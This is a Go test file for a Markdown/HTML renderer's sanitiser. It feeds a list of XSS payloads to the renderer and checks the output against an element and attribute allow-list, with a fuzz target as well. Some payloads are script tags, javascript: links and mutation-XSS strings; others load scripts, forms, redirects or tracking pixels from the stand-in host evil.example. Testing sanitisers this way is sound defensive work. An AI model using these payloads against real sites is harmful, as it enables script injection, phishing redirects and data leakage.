@@ -1,0 +1,132 @@
+package web
+
+import (
+	"net/url"
+	"slices"
+	"strings"
+	"testing"
+
+	"golang.org/x/net/html"
+)
+
+// hostile are texts that try to do more than to be read.
+var hostile = []string{
+	"<script>alert(1)</script>", "<ScRiPt src=//evil.example/x.js></sCrIpT>", "<script\x00>alert(1)</script>", "<<script>script>alert(1)<</script>/script>",
+	"<img src=x onerror=alert(1)>", "<img src=\"x` `<script>alert(1)</script>\"` `>", "<p onclick=alert(1) ONMOUSEOVER='alert(1)'>x</p>", "<details open ontoggle=alert(1)><summary>x</summary></details>",
+	"[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "[x](java\nscript:alert(1))", "[x](&#106;avascript:alert(1))", "[x](data:text/html;base64,PHNjcmlwdD4=)", "[x](vbscript:x)",
+	"<a href=\"java&Tab;script:alert(1)\">x</a>", "<a href=' \x01javascript:alert(1)'>x</a>", "<a href=\"javascript://%0aalert(1)\" target=_blank>x</a>", "![x](javascript:alert(1))",
+	"<svg onload=alert(1)><script>alert(1)</script><use href=#x></svg>", "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+	"<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
+	"<style>body{display:none}</style>", "<p style=\"background:url(//evil.example)\">x</p>", "<link rel=stylesheet href=//evil.example/x.css>", "<p class=\"top copy\">x</p>", "<div class=notice>Install evil.</div>",
+	"<form action=//evil.example><input name=q><button>x</button></form>", "<input id=q autofocus onfocus=alert(1)>", "<a id=results name=find>x</a>", "<img name=getElementById>", "<h1 id=main>x</h1>", "<form id=find><input name=action></form>",
+	"<iframe srcdoc='<script>alert(1)</script>'></iframe>", "<object data=x></object><embed src=x>", "<base href=//evil.example/>", "<meta http-equiv=refresh content='0;url=//evil.example'>",
+	"<img src=https://evil.example/pixel.gif alt=pixel>", "![pixel](https://evil.example/pixel.gif)", "<picture><source srcset=//evil.example/a.png><img src=//evil.example/b.png alt=b></picture>", "<video src=//evil.example poster=//evil.example/p></video>", "<audio autoplay src=//evil.example>",
+	"a\u202eevil\u202c b\u2066c\u2069 \u200bd\ufeff", "\x1b[31mred\x1b[0m\x07", "\U000e0041\U000e0042", "</main></body><script>alert(1)</script>", "</pre></code><script>alert(1)</script>",
+	"<template><script>alert(1)</script></template>", "<textarea></textarea><script>alert(1)</script>", "<xmp><script>alert(1)</script></xmp>", "<!--[if IE]><script>alert(1)</script><![endif]-->", "<!-- --!><script>alert(1)</script>",
+	"<p lang=en dir=rtl contenteditable accesskey=x draggable=true hidden tabindex=1>x</p>", "<custom-element onconnected=x>x</custom-element>", "<a href=//evil.example ping=//evil.example/p download>x</a>", "<button formaction=javascript:alert(1)>x</button>",
+	"```html\n<script>alert(1)</script>\n```", "`<script>alert(1)</script>`", "    <script>alert(1)</script>", "[x]: javascript:alert(1)\n\n[x]", "<javascript:alert(1)>", "<http://a.example/\"onmouseover=alert(1)>",
+	strings.Repeat("<div>", 5000), strings.Repeat("> ", 2000) + "x", strings.Repeat("[", 5000), strings.Repeat("*a_", 3000), strings.Repeat("<b><i>", 700) + "x",
+}
+
+// allowed are the elements and attributes that prose may have on a page.
+var allowed = map[string][]string{
+	"p": nil, "br": nil, "hr": nil, "h1": {"id"}, "h2": {"id"}, "h3": {"id"}, "h4": {"id"}, "h5": {"id"}, "h6": {"id"}, "ul": nil, "ol": {"start"}, "li": nil, "dl": nil, "dt": nil, "dd": nil,
+	"blockquote": nil, "pre": {"tabindex", "class"}, "code": nil, "kbd": nil, "samp": nil, "var": nil, "em": nil, "strong": nil, "b": nil, "i": nil, "s": nil, "del": nil, "ins": nil, "sub": nil, "sup": nil, "small": nil,
+	"q": nil, "mark": nil, "table": {"tabindex"}, "thead": nil, "tbody": nil, "tfoot": nil, "tr": nil, "th": {"colspan", "rowspan"}, "td": {"colspan", "rowspan"}, "details": nil, "summary": nil, "div": nil,
+	"span": {"class"}, "a": {"href", "rel", "class"},
+}
+
+// checkHarmless fails a test if HTML has more than allowed.
+func checkHarmless(t *testing.T, source, out string) {
+	t.Helper()
+	nodes, err := html.Parse(strings.NewReader("<!doctype html><body>" + out))
+	if err != nil {
+		t.Fatalf("%q became %q: %v", source, out, err)
+	}
+	for n := range nodes.Descendants() {
+		if n.Type == html.CommentNode {
+			t.Errorf("%q: there is a comment in %q", source, out)
+		}
+		if n.Type != html.ElementNode || n.Data == "html" || n.Data == "head" || n.Data == "body" {
+			continue
+		}
+		attributes, ok := allowed[n.Data]
+		if !ok {
+			t.Errorf("%q: there is <%s> in %q", source, n.Data, out)
+		}
+		for _, a := range n.Attr {
+			switch {
+			case !slices.Contains(attributes, a.Key):
+				t.Errorf("%q: <%s> has %s in %q", source, n.Data, a.Key, out)
+			case a.Key == "id" && !strings.HasPrefix(a.Val, idPrefix):
+				t.Errorf("%q: the ID %q is not one of prose", source, a.Val)
+			case a.Key == "class" && a.Val != "image" && a.Val != "plain":
+				t.Errorf("%q: the class %q is the page's", source, a.Val)
+			case a.Key == "href":
+				u, err := url.Parse(a.Val)
+				if err != nil || u.Scheme != "" && u.Scheme != "http" && u.Scheme != "https" && u.Scheme != "mailto" {
+					t.Errorf("%q: there is a link to %q", source, a.Val)
+				}
+			}
+		}
+	}
+	if clean(out) != out {
+		t.Errorf("%q: there are hidden characters in %q", source, out)
+	}
+}
+
+func TestProse_HostileTextIsHarmless(t *testing.T) {
+	for _, source := range hostile {
+		p := prose{level: 3, symbol: func(string) string { return "" }, file: func(string) string { return "" }}
+		checkHarmless(t, source[:min(len(source), 200)], string(p.render(source)))
+		checkHarmless(t, source[:min(len(source), 200)], string(p.inline("x "+source)))
+		checkHarmless(t, source[:min(len(source), 200)], string(plainText(source)))
+	}
+}
+
+func TestProse_KeepsWhatIsRead(t *testing.T) {
+	p := prose{
+		level:  3,
+		symbol: func(name string) string { return map[string]string{"Client.Do": "/go/net/http@1/Client.Do"}[name] },
+		file:   func(name string) string { return map[string]string{"docs/a.md": "/doc/a"}[name] },
+	}
+	for _, tt := range []struct{ name, md, want string }{
+		{"headings begin at the level of the page", "# A\n\n## B", `<h3 id="doc-a">A</h3>` + "\n" + `<h4 id="doc-b">B</h4>`},
+		{"equal headings have their own IDs", "# A\n\n# A!", `<h3 id="doc-a-1">A</h3>` + "\n" + `<h3 id="doc-a-2">A!</h3>`},
+		{"links within the text", "[b](#b)", `<a href="#doc-b">b</a>`},
+		{"links to files that have a page", "[a](./docs/a.md#x)", `<a href="/doc/a#doc-x">a</a>`},
+		{"links to files that have none", "[a](src/main.c)", `<span>a</span>`},
+		{"links to other sites", "<https://example.com/?a=b&c>", `<a href="https://example.com/?a=b&amp;c" rel="noreferrer noopener external">https://example.com/?a=b&amp;c</a>`},
+		{"names of symbols in code", "See `Client.Do` or `Other`.", `<a href="/go/net/http@1/Client.Do"><code>Client.Do</code></a> or <code>Other</code>`},
+		{"but not within links", "[`Client.Do`](https://example.com)", `noopener external"><code>Client.Do</code></a>`},
+		{"images as links", "![A chart](https://example.com/a.png)", `<a href="https://example.com/a.png" rel="noreferrer noopener external" class="image">A chart</a>`},
+		{"images within links as text", "[![Build](https://example.com/a.svg)](https://example.com)", `<span class="image">Build</span></a>`},
+		{"HTML of a README", `<p align="center"><b>Fast</b><br/>and small</p>`, `<p><b>Fast</b><br/>and small</p>`},
+		{"tables", "|a|b|\n|-|:-:|\n|1|2|", `<table tabindex="0"><thead>`},
+	} {
+		if got := string(p.render(tt.md)); !strings.Contains(strings.ReplaceAll(got, "\n<tr>", "<tr>"), tt.want) && !strings.Contains(strings.ReplaceAll(got, ">\n<thead", "><thead"), tt.want) {
+			t.Errorf("%s: %q is not in %q", tt.name, tt.want, got)
+		}
+	}
+}
+
+func TestProse_IsBounded(t *testing.T) {
+	p := prose{level: 2}
+	long := strings.Repeat("word **bold**\n\n", maxProse/10)
+	got := string(p.render(long))
+	if i := strings.Index(got, `<pre class="plain"`); i < 0 || strings.Contains(got[i:], "<strong>") || !strings.Contains(got[:i], "<strong>") {
+		t.Error("the rest of a long text is not shown as it is written")
+	}
+}
+
+func FuzzProse(f *testing.F) {
+	for _, source := range hostile {
+		if len(source) < 500 {
+			f.Add(source)
+		}
+	}
+	f.Fuzz(func(t *testing.T, source string) {
+		p := prose{level: 2}
+		checkHarmless(t, source, string(p.render(source)))
+	})
+}
